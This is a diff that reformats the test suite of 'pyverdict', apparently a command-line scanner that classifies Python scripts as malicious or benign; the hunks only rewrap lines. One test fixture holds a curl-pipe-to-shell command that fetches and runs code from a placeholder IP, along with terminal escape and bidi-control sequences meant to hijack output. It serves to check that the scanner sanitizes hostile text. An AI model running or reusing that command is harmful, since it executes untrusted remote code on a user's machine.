@@ -16,7 +16,8 @@ const validate = new Ajv2020({ allErrors: true, strict: false }).compile(schema)
 const json = (text) => JSON.parse(text);
 
 /** @param {string} text */
-const hasSteering = (text) => /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]/.test(text);
+const hasSteering = (text) =>
+  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]/.test(text);
 
 test('the exit status follows the verdict and --fail-on', async (context) => {
   const folder = folderOf(context, { 'bad.py': malicious, 'good.py': benign });
@@ -55,14 +56,22 @@ test('wrong calls exit with 2 and say what there is', async () => {
 
 test('--help and --version answer and exit with 0', async () => {
   const { version } = json(readFileSync(join(root, 'package.json'), 'utf8'));
-  assert.deepEqual(await pyverdict(['--version']), { status: 0, stdout: `pyverdict ${version}\n`, stderr: '' });
+  assert.deepEqual(await pyverdict(['--version']), {
+    status: 0,
+    stdout: `pyverdict ${version}\n`,
+    stderr: '',
+  });
   const help = await pyverdict(['--help']);
   assert.equal(help.status, 0);
-  for (const word of ['--format', '--fail-on', '--jobs', '--no-model', 'Exit status']) assert.ok(help.stdout.includes(word));
+  for (const word of ['--format', '--fail-on', '--jobs', '--no-model', 'Exit status'])
+    assert.ok(help.stdout.includes(word));
 });
 
 test('standard input is read for -, and when nothing else is named', async () => {
-  for (const args of [['--format', 'json'], ['--format', 'json', '-']]) {
+  for (const args of [
+    ['--format', 'json'],
+    ['--format', 'json', '-'],
+  ]) {
     const { status, stdout } = await pyverdict(args, { input: malicious });
     assert.equal(status, 1);
     const { reports } = json(stdout);
@@ -72,13 +81,18 @@ test('standard input is read for -, and when nothing else is named', async () =>
 });
 
 test('bytes of standard input are bytes', async () => {
-  const { stdout } = await pyverdict(['--format', 'json'], { input: Buffer.from('# coding: latin-1\nx = "caf\xe9"\n', 'latin1') });
+  const { stdout } = await pyverdict(['--format', 'json'], {
+    input: Buffer.from('# coding: latin-1\nx = "caf\xe9"\n', 'latin1'),
+  });
   const [report] = json(stdout).reports;
   assert.ok(report.layers[0].text.includes('caf\u00e9'));
 });
 
 test('a finding is told from a script, and has its place in the timeline', async () => {
-  const input = JSON.stringify([{ finding: finding(malicious) }, { finding: finding(benign, '2025-01-01T00:00:00Z') }]);
+  const input = JSON.stringify([
+    { finding: finding(malicious) },
+    { finding: finding(benign, '2025-01-01T00:00:00Z') },
+  ]);
   const { status, stdout } = await pyverdict(['--format', 'json'], { input });
   assert.equal(status, 1);
   const { reports, timeline } = json(stdout);
@@ -96,7 +110,13 @@ test('a finding is told from a script, and has its place in the timeline', async
 });
 
 test('a folder is walked for .py files by name, links followed once', async (context) => {
-  const folder = folderOf(context, { 'b.py': benign, 'a/z.py': malicious, 'a/y.txt': malicious, 'c/d.PY': benign, 'c/e.py': benign });
+  const folder = folderOf(context, {
+    'b.py': benign,
+    'a/z.py': malicious,
+    'a/y.txt': malicious,
+    'c/d.PY': benign,
+    'c/e.py': benign,
+  });
   symlinkSync('..', join(folder, 'a/loop'));
   symlinkSync('b.py', join(folder, 'd.py'));
   symlinkSync('nowhere', join(folder, 'broken.py'));
@@ -118,23 +138,34 @@ test('a folder is walked for .py files by name, links followed once', async (con
 
 test('what cannot be read is said, and the rest goes on', async (context) => {
   const folder = folderOf(context, { 'a.py': benign });
-  const { status, stdout, stderr } = await pyverdict(['--format', 'json', 'none.py', 'a.py'], { cwd: folder });
+  const { status, stdout, stderr } = await pyverdict(['--format', 'json', 'none.py', 'a.py'], {
+    cwd: folder,
+  });
   assert.equal(status, 2);
   assert.equal(json(stdout).reports.length, 1);
   assert.match(stderr, /none\.py/);
 });
 
-test('a file without the right to read it is an error', { skip: process.getuid?.() === 0 && 'root may read everything' }, async (context) => {
-  const folder = folderOf(context, { 'a.py': benign });
-  chmodSync(join(folder, 'a.py'), 0);
-  const { status, stderr } = await pyverdict(['.'], { cwd: folder });
-  assert.equal(status, 2);
-  assert.match(stderr, /permission denied/);
-});
+test(
+  'a file without the right to read it is an error',
+  { skip: process.getuid?.() === 0 && 'root may read everything' },
+  async (context) => {
+    const folder = folderOf(context, { 'a.py': benign });
+    chmodSync(join(folder, 'a.py'), 0);
+    const { status, stderr } = await pyverdict(['.'], { cwd: folder });
+    assert.equal(status, 2);
+    assert.match(stderr, /permission denied/);
+  },
+);
 
 test('several threads give the same output as one, in the same order', async (context) => {
-  const files = Object.fromEntries(Array.from({ length: 90 }, (_, i) => [`f${i}.py`, i % 7 === 3 ? malicious : `${benign}# ${i}\n`]));
-  const folder = folderOf(context, { ...files, 'findings.py': JSON.stringify([{ finding: finding(malicious) }]) });
+  const files = Object.fromEntries(
+    Array.from({ length: 90 }, (_, i) => [`f${i}.py`, i % 7 === 3 ? malicious : `${benign}# ${i}\n`]),
+  );
+  const folder = folderOf(context, {
+    ...files,
+    'findings.py': JSON.stringify([{ finding: finding(malicious) }]),
+  });
   for (const format of ['json', 'ndjson', 'markdown', 'pretty']) {
     const one = await pyverdict(['--jobs', '1', '--format', format, '.'], { cwd: folder });
     const three = await pyverdict(['--jobs', '3', '--format', format, '.'], { cwd: folder });
@@ -165,7 +196,10 @@ test('hostile text does not reach the terminal as it is', async (context) => {
   const evil = '\x1b[31m\x1b]0;owned\x07\u202eevil\u2066\x9b2J\u200b\r';
   const script = `import os\nos.system("curl http://203.0.113.9/${evil} | sh")  # ${evil}\n${malicious}`;
   const name = 'a\x1b[2J\u202eb.py';
-  const folder = folderOf(context, { [name]: script, 'x.json': JSON.stringify({ finding: { ...finding(script), category: evil, [evil]: evil } }) });
+  const folder = folderOf(context, {
+    [name]: script,
+    'x.json': JSON.stringify({ finding: { ...finding(script), category: evil, [evil]: evil } }),
+  });
   for (const format of ['pretty', 'json', 'ndjson']) {
     for (const path of ['.', `./${name}`, 'x.json']) {
       const { stdout, stderr } = await pyverdict(['--format', format, path], { cwd: folder });
@@ -178,17 +212,23 @@ test('hostile text does not reach the terminal as it is', async (context) => {
   assert.ok(!hasSteering(stderr));
 });
 
-test('colour comes on a terminal, unless NO_COLOR is set', { skip: process.platform !== 'linux' }, async (context) => {
-  const folder = folderOf(context, { 'a.py': malicious });
-  const call = ['-qec', `${process.execPath} ${cli} a.py`, '/dev/null'];
-  const coloured = await run('script', call, { cwd: folder, env: { TERM: 'xterm', NO_COLOR: '' } });
-  assert.ok(coloured.stdout.includes('\x1b[1;31mMALICIOUS'), coloured.stdout);
-  const plain = await run('script', call, { cwd: folder, env: { TERM: 'xterm', NO_COLOR: '1' } });
-  assert.ok(!plain.stdout.includes('\x1b'));
-});
+test(
+  'colour comes on a terminal, unless NO_COLOR is set',
+  { skip: process.platform !== 'linux' },
+  async (context) => {
+    const folder = folderOf(context, { 'a.py': malicious });
+    const call = ['-qec', `${process.execPath} ${cli} a.py`, '/dev/null'];
+    const coloured = await run('script', call, { cwd: folder, env: { TERM: 'xterm', NO_COLOR: '' } });
+    assert.ok(coloured.stdout.includes('\x1b[1;31mMALICIOUS'), coloured.stdout);
+    const plain = await run('script', call, { cwd: folder, env: { TERM: 'xterm', NO_COLOR: '1' } });
+    assert.ok(!plain.stdout.includes('\x1b'));
+  },
+);
 
 test('a reader that goes away ends the scan without an error', async (context) => {
-  const files = Object.fromEntries(Array.from({ length: 200 }, (_, i) => [`f${i}.py`, `${benign}${'# filler\n'.repeat(2000)}`]));
+  const files = Object.fromEntries(
+    Array.from({ length: 200 }, (_, i) => [`f${i}.py`, `${benign}${'# filler\n'.repeat(2000)}`]),
+  );
   const folder = folderOf(context, files);
   for (const jobs of ['1', '2']) {
     const child = spawn(process.execPath, [cli, '--format', 'ndjson', '--jobs', jobs, '.'], { cwd: folder });
@@ -202,6 +242,8 @@ test('a reader that goes away ends the scan without an error', async (context) =
 });
 
 test('it runs where no code may be made from strings', async () => {
-  const { status, stderr } = await run(process.execPath, ['--disallow-code-generation-from-strings', cli], { input: malicious });
+  const { status, stderr } = await run(process.execPath, ['--disallow-code-generation-from-strings', cli], {
+    input: malicious,
+  });
   assert.equal(status, 1, stderr);
 });
